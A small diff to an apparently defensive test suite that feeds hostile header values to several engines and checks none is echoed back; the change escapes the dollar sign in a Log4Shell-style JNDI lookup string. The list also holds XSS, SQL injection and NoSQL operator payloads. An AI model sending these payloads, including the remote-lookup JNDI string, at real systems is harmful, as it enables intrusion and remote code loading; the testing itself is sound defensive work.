@@ -30,7 +30,7 @@ describe.each(engines)('hostile headers on %s', (engine) => {
       '<script>alert(1)</script>',
       '{"$ne":1}',
       "' OR 1=1 --",
-      '${jndi:ldap://x.example/a}',
+      '\u0024{jndi:ldap://x.example/a}',
       '\u00e2\u0080\u00a8',
       'x'.repeat(5_000),
     ])('%.30j is not given back', async (id) => {
